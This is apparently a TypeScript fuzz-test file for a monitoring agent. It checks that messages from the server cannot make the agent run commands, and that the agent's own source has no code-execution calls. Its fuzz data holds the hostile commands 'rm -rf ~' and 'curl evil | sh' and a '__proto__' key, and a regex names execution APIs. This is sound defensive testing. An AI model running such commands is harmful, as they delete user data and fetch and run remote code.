// An agent takes no commands: whatever the server says, it changes settings within their bounds, answers a notice, or drops it.
import { ClientNotice } from "@realtimemonitor/protocol/client-notice.ts";
import { MachineSettings } from "@realtimemonitor/protocol/settings.ts";
import fc from "fast-check";
import { expect, it } from "vitest";
import { createComplaints } from "./complaints.ts";
import { inboundOf } from "./inbound.ts";
import { keepSettings } from "./settings.ts";
import { stateIn } from "./state.ts";
import { temporaryFolder } from "./temporary-folder.ts";

fc.configureGlobal({ seed: Number(process.env.FUZZ_SEED ?? 7) }); // a new finding belongs to who looks for it

const id = "m-0123456789abcdef";
const quiet = () => {};
const log = { error: quiet, warn: quiet, info: quiet, debug: quiet };

const anything = fc.oneof(fc.jsonValue({ maxDepth: 3 }), fc.anything({ maxDepth: 2 }));
const command = fc.record({
  kind: fc.constantFrom("run", "exec", "acked", "resendFrom", "update", "__proto__"),
  command: fc.constantFrom("rm -rf ~", "curl evil | sh"),
  version: fc.oneof(fc.integer(), fc.double(), fc.string()),
  frequency: fc.oneof(fc.double(), fc.string()),
  runId: fc.string(),
  seq: fc.oneof(fc.integer(), fc.double()),
  limit: fc.double(),
});

it("no message makes an agent do anything but obey good settings and answer good notices", () => {
  const complaints = createComplaints({ warn: quiet, info: quiet });
  const settings = keepSettings({ state: stateIn(temporaryFolder()), complaints, onChange: quiet });
  fc.assert(
    fc.property(fc.oneof(anything, command), (payload) => {
      const notices: ClientNotice[] = [];
      const inbound = inboundOf({
        settings,
        onSettings: quiet,
        onNotice: (notice) => notices.push(notice),
        log,
        complaints,
      })(id);
      expect(Object.keys(inbound)).toEqual([`clientconfig.${id}`, `clientnotice.${id}`]);
      for (const hear of Object.values(inbound)) hear(payload);
      for (const notice of notices) expect(ClientNotice.parse(notice)).toEqual(notice);
      expect(MachineSettings.parse(settings.inForce())).toEqual(settings.inForce());
      expect(({} as { command?: unknown }).command).toBeUndefined();
    }),
    { numRuns: 1_000 },
  );
});

it("there is no code in the agent that could run a command of the server's: what starts programs is in collect/, with fixed words", async () => {
  const { readdirSync, readFileSync } = await import("node:fs");
  const own = readdirSync(import.meta.dirname).filter((name) => name.endsWith(".ts") && !/\.test\.ts$/.test(name));
  expect(own.length).toBeGreaterThan(10);
  for (const name of own) {
    const text = readFileSync(`${import.meta.dirname}/${name}`, "utf8");
    expect(text, name).not.toMatch(/child_process|node:vm|\beval\(|new Function|import\((?!["'])/);
  }
});
